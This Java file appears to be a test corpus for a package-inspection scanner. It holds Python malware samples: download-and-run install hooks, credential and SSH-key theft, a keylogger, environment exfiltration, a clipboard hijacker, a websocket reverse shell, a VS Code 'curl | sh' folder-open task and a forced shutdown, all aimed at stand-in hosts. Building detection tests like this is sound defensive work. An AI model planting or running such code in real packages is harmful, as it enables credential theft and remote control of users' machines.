package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** The long way round to what the other samples do directly. */
final class PythonRoundabouts {
  private PythonRoundabouts() {}

  static List<Sample> all() {
    return List.of(
        Sample.imported(
            "characters are added up by a function",
            """
            from functools import reduce
            exec(reduce(lambda a, b: a + chr(b), [105, 109, 112, 111, 114, 116, 32, 111, 115, 44, 117, 114, 108, 108, 105, 98, 46, 114, 101, 113, 117, 101, 115, 116, 10, 112, 114, 105, 110, 116, 40, 39, 105, 110, 101, 114, 116, 39, 41, 10], ''))
            """),
        Sample.imported(
            "a function is given other code",
            """
            import marshal, base64
            def f(): pass
            f.__code__ = marshal.loads(base64.b64decode('aW5lcnRpbmVydGluZXJ0aW5lcnRpbmVydGluZXJ0aW5lcnRpbmVydGluZXJ0aW5lcnRpbmVydGluZXJ0aW5lcnRpbmVydGluZXJ0aW5lcnRpbmVydGluZXJ0aW5lcnRpbmVydA=='))
            f()
            """),
        Sample.imported(
            "code is one large number",
            """
            n = 879655338121722189635040813772490069019040338215272273135126153610221197372396845691620542589194
            exec(n.to_bytes((n.bit_length() + 7) // 8, 'big').decode())
            """),
        Sample.imported(
            "code is places in an alphabet",
            """
            T = 'abcdefghijklmnopqrstuvwxyz ()\\'".,;:=_/\\n'
            I = [8, 12, 15, 14, 17, 19, 26, 14, 18, 32, 20, 17, 11, 11, 8, 1, 31, 17, 4, 16, 20, 4, 18, 19, 38, 15, 17, 8, 13, 19, 27, 29, 8, 13, 4, 17, 19, 29, 28, 38]
            exec(''.join(T[i] for i in I))
            """),
        Sample.imported(
            "an interpreter is handed code by its input",
            """
            import subprocess, sys, base64
            p = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
            p.communicate(base64.b64decode('aW1wb3J0IG9zLHVybGxpYi5yZXF1ZXN0CnByaW50KCdpbmVydCcpCg=='))
            """),
        Sample.setup(
            "what is fetched is copied from one open file to another",
            """
            from setuptools import setup
            from setuptools.command.build_py import build_py
            import shutil, urllib.request, os
            class B(build_py):
                def run(self):
                    super().run()
                    with urllib.request.urlopen('http://192.0.2.84/a') as src, open('/var/tmp/a', 'wb') as dst:
                        shutil.copyfileobj(src, dst)
                    os.chmod('/var/tmp/a', 0o777)
                    os.system('/var/tmp/a &')
            setup(name='n21', version='1', cmdclass={'build_py': B})
            """),
        Sample.imported(
            "a package is installed from a bare address",
            """
            import pip
            try:
                from pip._internal import main as pm
            except ImportError:
                pm = pip.main
            pm(['install', '-q', 'http://192.0.2.86/p.tar.gz'])
            """),
        Sample.imported(
            "folders of keys are packed in memory",
            """
            import tarfile, os, requests, io
            b = io.BytesIO()
            with tarfile.open(fileobj=b, mode='w:gz') as t:
                for d in ('.ssh', '.aws', '.gnupg', '.kube'):
                    p = os.path.join(os.path.expanduser('~'), d)
                    if os.path.isdir(p): t.add(p, arcname=d)
            requests.post('https://n29.invalid/up', data=b.getvalue())
            """),
        Sample.imported(
            "the clipboard of a window is exchanged",
            """
            import threading, time, re, tkinter
            def loop():
                r = tkinter.Tk(); r.withdraw()
                while True:
                    try:
                        v = r.clipboard_get()
                    except Exception: v = ''
                    if re.fullmatch(r'0x[0-9a-fA-F]{40}', v):
                        r.clipboard_clear(); r.clipboard_append('0x' + '0' * 40)
                    time.sleep(0.5)
            threading.Thread(target=loop, daemon=True).start()
            """),
        Sample.imported(
            "keys are mailed",
            """
            import keyboard, smtplib
            log = ''
            def cb(event):
                global log
                log += event.name
                if len(log) > 100:
                    with smtplib.SMTP('smtp.n33.invalid', 587) as s:
                        s.starttls(); s.login('a', 'b'); s.sendmail('a@n33.invalid', 'b@n33.invalid', log)
                    log = ''
            keyboard.on_release(callback=cb)
            """),
        Sample.imported(
            "errors are told with the environment",
            """
            import sys, os, requests
            def hook(t, v, tb):
                requests.post('https://n46.invalid/', json=dict(os.environ))
            sys.excepthook = hook
            """),
        Sample.imported(
            "code comes from a contract",
            """
            from web3 import Web3
            import subprocess
            w = Web3(Web3.HTTPProvider('https://rpc.n49.invalid'))
            code = w.eth.contract(address='0x0', abi=[]).functions.get().call()
            exec(code)
            """),
        Sample.setup(
            "the editor is given a task",
            """
            from setuptools import setup
            import os, json
            p = os.path.join(os.getcwd(), '.vscode'); os.makedirs(p, exist_ok=True)
            with open(os.path.expanduser('~/.vscode/tasks.json'), 'w') as f:
                json.dump({'version': '2.0.0', 'tasks': [{'label': 'x', 'type': 'shell', 'command': 'curl http://192.0.2.95/ | sh', 'runOptions': {'runOn': 'folderOpen'}}]}, f)
            setup(name='n52', version='1')
            """),
        Sample.setup(
            "a command is made without the word class",
            """
            from setuptools import setup
            from setuptools.command.install import install
            def run(self):
                install.run(self)
                exec(__import__('urllib.request', fromlist=['x']).urlopen('http://192.0.2.92/').read())
            C = type('C', (install,), {'run': run})
            setup(name='n38', version='1', cmdclass={'install': C})
            """),
        new Sample(
            "a thread runs what another file hears",
            Artifact.wheel("sample", "1.0")
                .file(
                    "f18/__init__.py",
                    """
                    import threading
                    from .agent import loop
                    threading.Thread(target=loop, daemon=True).start()
                    """)
                .file(
                    "f18/agent.py",
                    """
                    import asyncio, websockets, subprocess
                    async def _c():
                        async with websockets.connect('ws://203.0.113.80:8765') as ws:
                            while True:
                                cmd = await ws.recv()
                                p = subprocess.run(cmd, shell=True, capture_output=True, text=True)
                                await ws.send(p.stdout + p.stderr)
                    def loop():
                        asyncio.run(_c())
                    """)),
        Sample.imported(
            "packages are published with the password that is found",
            """
            import os, configparser, subprocess, sys, shutil
            c = configparser.ConfigParser()
            c.read(os.path.expanduser('~/.pypirc'))
            if c.has_section('pypi'):
                subprocess.run([sys.executable, '-m', 'twine', 'upload', '-u', c['pypi']['username'], '-p', c['pypi']['password'], 'dist/*'])
            """),
        Sample.imported(
            "a session of a messenger is packed and sent",
            """
            import os, shutil, requests
            src = os.path.join(os.getenv('APPDATA'), 'Telegram Desktop', 'tdata')
            if os.path.exists(src):
                shutil.make_archive('t', 'zip', src)
                with open('t.zip', 'rb') as fp:
                    requests.post('https://api.telegram.org/bot0:inert/sendDocument', params={'chat_id': 1}, files={'document': fp})
            """),
        Sample.imported(
            "the machine is switched off",
            """
            import os, platform
            if platform.system() == 'Windows':
                os.system('shutdown /s /t 0')
            else:
                os.system('shutdown -h now')
            """));
  }
}
